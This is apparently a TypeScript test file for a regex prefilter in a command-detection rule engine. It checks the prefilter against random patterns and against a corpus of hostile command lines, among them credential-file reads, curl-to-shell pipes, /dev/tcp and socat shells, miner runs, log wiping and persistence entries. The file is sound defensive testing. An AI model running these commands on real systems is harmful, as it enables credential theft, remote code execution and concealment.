// The required literals of a regex must never skip a text the regex matches: checked on hand-picked
// patterns, on random patterns against random texts, and on every built-in rule regex the build
// stored literals for against command lines of the kinds they are about.
import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readFileSync } from 'node:fs';
import { RE2JS } from 're2js';
import { requiredLiterals } from './regex-prefilter.js';
import { mayMatch } from './rule-regex.js';

/** Command lines and paths of the kinds the built-in rules are about. */
const CORPUS = [
  'cat ~/.ssh/id_rsa', 'scp /home/u/.ssh/id_ed25519 x:', 'cat ~/.aws/credentials', 'ls ~/.config/gcloud', 'cat /etc/shadow',
  'cat /proc/1/environ', '/proc/self/environ', 'find / -name id_rsa', 'locate .pem', 'docker run --privileged -v /:/host x',
  'docker run --pid=host x', '--privileged', 'ls /var/run/docker.sock', 'echo 1 > /sys/fs/cgroup/release_agent', 'kill -9 1',
  'pkill -f x', 'iptables -F', '-F', 'history -c', 'unset HISTFILE', 'ln -sf /dev/null ~/.bash_history', 'echo > /var/log/syslog',
  'journalctl --vacuum-size=1', '/tmp/.x', '/dev/shm/.hidden/run', '[kworker/0:1]', 'kworker', './xmrig -a rx/0 -o pool:3333 -u 44AB',
  'stratum+tcp://pool:3333', 'curl -T f http://x', 'curl --data @f http://x', 'wget -O /tmp/x http://x', 'curl x | sh', 'curl x | sudo bash',
  'bash -c "$(curl -s x)"', 'echo eA== | base64 -d | sh', '/tmp/x', '/var/tmp/', 'echo x >> /etc/cron.d/x', '/etc/cron.daily/x', 'x.timer',
  '--on-calendar=daily', 'systemctl --user enable x.timer', 'echo x >> ~/.bashrc', 'echo k >> ~/.ssh/authorized_keys',
  'exec 3<>/dev/tcp/10.0.0.1/80', '/dev/tcp/localhost/', 'ip neigh', 'arp -a', 'ip route', 'route -n', 'nc -lvp 4444', 'socat TCP-LISTEN:1 -',
  'ssh -R 80:localhost:8080 x', 'ssh -o RemoteForward=1 x', 'socat TCP4-LISTEN:80,bind=localhost EXEC:sh', 'minerd -a RandomX -o STRATUM+TCP://x:1',
  'docker run --cap-add=SYS_ADMIN x', 'grep -r "BEGIN RSA PRIVATE KEY" /', 'ngrok http 80', 'npx x', 'python3 -c "import os"', 'sed -i s/a/b/ /etc/passwd', 'chmod +s /bin/bash',
];

function re2(pattern: string, flags = ''): RE2JS {
  return RE2JS.compile(pattern, (flags.includes('m') ? RE2JS.MULTILINE : 0) | (flags.includes('s') ? RE2JS.DOTALL : 0) | (flags.includes('i') ? RE2JS.CASE_INSENSITIVE : 0));
}

/** A small deterministic generator, so a failure repeats. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

function randomPattern(r: () => number, depth = 0): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const atom = (): string => {
    const x = r();
    if (depth < 3 && x < 0.2) return `(${randomPattern(r, depth + 1)})`;
    if (depth < 3 && x < 0.3) return `(?:${randomPattern(r, depth + 1)}|${randomPattern(r, depth + 1)})`;
    return pick(['a', 'b', 'ab', 'ba', 'A', 'k', 'S', '/', '\\/', '[ab]', '.', '\\s', '\\w', '^', '$', '\\b', 'c']);
  };
  const piece = (): string => atom() + pick(['', '', '', '?', '*', '+', '{0,2}', '{1,2}', '{2}']);
  const seq = (): string => Array.from({ length: 1 + Math.floor(r() * 4) }, piece).join('');
  return r() < 0.25 ? `${seq()}|${seq()}` : seq();
}

function randomText(r: () => number): string {
  return Array.from({ length: Math.floor(r() * 9) }, () => 'abAB/c sSkK\u212a\u017f'[Math.floor(r() * 12)]).join('');
}

describe('requiredLiterals', () => {
  it('finds the literal every match holds, and none where a match can do without', () => {
    assert.deepEqual(requiredLiterals('\\.ssh/id_(rsa|dsa)'), ['.ssh/id_']);
    assert.deepEqual(requiredLiterals('x(rsa|dsa)'), ['rsa', 'dsa']);
    assert.deepEqual(requiredLiterals('\\b(kill|pkill)\\s'), ['kill', 'pkill']);
    assert.deepEqual(requiredLiterals('^/etc/g?shadow\\b'), ['shadow']);
    assert.equal(requiredLiterals('a|b*'), null); // a branch matches the empty string
    assert.equal(requiredLiterals('(abc)?x*'), null);
    assert.equal(requiredLiterals('(abc){0,3}'), null);
    assert.equal(requiredLiterals('[abc]+'), null);
    // RE2 folds k and s to non-ASCII letters too, and non-ASCII letters otherwise than toLowerCase
    assert.deepEqual(requiredLiterals('LISTEN:', 'i'), ['ten:']);
    assert.deepEqual(requiredLiterals('RemoteForward', 'i'), ['remoteforward']);
    assert.equal(requiredLiterals('sks', 'i'), null);
    assert.equal(requiredLiterals('ǅǅ', 'i'), null);
    assert.equal(requiredLiterals('(?=abc)'), null);
  });

  it('gives no literals for RE2 syntax that JavaScript reads otherwise', () => {
    for (const p of ['\\Qa.b\\E', '\\Aabc', 'abc\\z', '(?i)abc', '(?P<n>abc)', '[[:alpha:]]abc', 'a{,3}bcd', '\\141bc', '\\pLabc']) {
      assert.equal(requiredLiterals(p), null, p);
    }
  });

  it('never skips a text that the regex matches (random patterns and texts)', () => {
    const r = rng(12);
    let checked = 0;
    for (let i = 0; i < 1500; i++) {
      const pattern = randomPattern(r);
      const flags = i % 2 === 0 ? '' : 'i';
      const required = requiredLiterals(pattern, flags);
      if (required === null) continue;
      const re = re2(pattern, flags);
      for (let j = 0; j < 30; j++) {
        const text = randomText(r);
        if (re.test(text)) {
          assert.ok(mayMatch(required, text, flags === 'i'), `/${pattern}/${flags} matches ${JSON.stringify(text)} but its literals ${JSON.stringify(required)} skip it`);
          checked++;
        }
      }
    }
    assert.ok(checked > 1000, `only ${checked} matching texts checked`);
  });

  it('never skips a command line that a built-in rule regex matches, and stores what the extractor gives', () => {
    const cache = JSON.parse(readFileSync(new URL('./builtin-rules.json', import.meta.url), 'utf8')) as { prefilters: Record<string, string[]> };
    const entries = Object.entries(cache.prefilters);
    assert.ok(entries.length > 50, 'the build stored literals for the built-in rules');
    const texts = CORPUS.flatMap((line) => [line, ...line.split(' ')]);
    let matched = 0;
    for (const [key, required] of entries) {
      const slash = key.indexOf('/');
      const [flags, pattern] = [key.slice(0, slash), key.slice(slash + 1)];
      assert.deepEqual(requiredLiterals(pattern, flags), required, `stored literals of ${pattern} are what the extractor gives`);
      const re = re2(pattern, flags);
      for (const text of texts) {
        if (!re.test(text)) continue;
        matched++;
        assert.ok(mayMatch(required, text, flags.includes('i')), `${pattern} matches ${JSON.stringify(text)} but its literals skip it`);
      }
    }
    assert.ok(matched > 0);
  });
});
